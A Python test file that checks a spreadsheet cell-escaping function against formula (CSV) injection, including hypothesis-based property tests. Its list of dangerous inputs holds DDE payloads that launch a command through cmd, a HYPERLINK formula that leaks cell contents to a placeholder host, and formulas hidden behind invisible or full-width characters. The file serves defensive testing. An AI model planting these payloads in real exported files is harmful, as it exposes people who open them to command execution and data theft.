"""Cells that no program takes for a formula."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from boards.rules.spreadsheets import cell, plain

pytestmark = pytest.mark.once

STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
DANGEROUS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff20SUM(1,1)",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    'DDE ("cmd";"/C calc";"!A0")A0',
    '"=1+1"',
    'a",=1+1,"b',
    "a;=1+1;b",
    "a\n=1+1\nb",
    "=1+1;=2+2",
    "%0A=1+1",
]
HARMLESS = ["a,b", 'a"b', "007", "1E5", "2024-01-02", "TRUE", "a - b", "x = y", "it's", "'quoted'", "line1\nline2", ""]


def pieces(text: str) -> list[str]:
    """What a program might take for cells of their own."""
    for separator in ',;|\t\r\n"':
        text = text.replace(separator, "\0")
    return text.split("\0")


def first_ink(text: str) -> str:
    """The first character that is no blank and has a width."""
    return next((each for each in text if not each.isspace() and unicodedata.category(each) != "Cf"), "")


@pytest.mark.parametrize("text", DANGEROUS)
def test_nothing_begins_like_a_formula(text):
    made = cell(text)
    assert made != text
    assert not [piece for piece in pieces(made) if first_ink(piece) in STARTS]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays(text):
    assert cell(text) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS, "-5", "+49 30 123456", "- item", "'=1+1", "''=1", "--"])
def test_the_text_can_be_had_back(text):
    assert plain(cell(text)) == text


@given(st.text(alphabet="=+-@'\" ,;|\t\n\u200bDE%0Aa1"))
def test_any_text_is_safe_and_can_be_had_back(text):
    made = cell(text)
    assert plain(made) == text
    assert not [piece for piece in pieces(made) if first_ink(piece) in STARTS]


def test_hostile_lists_are_safe(hostile_texts):
    for text in hostile_texts:
        assert plain(cell(text)) == text
        assert not [piece for piece in pieces(cell(text)) if first_ink(piece) in STARTS]
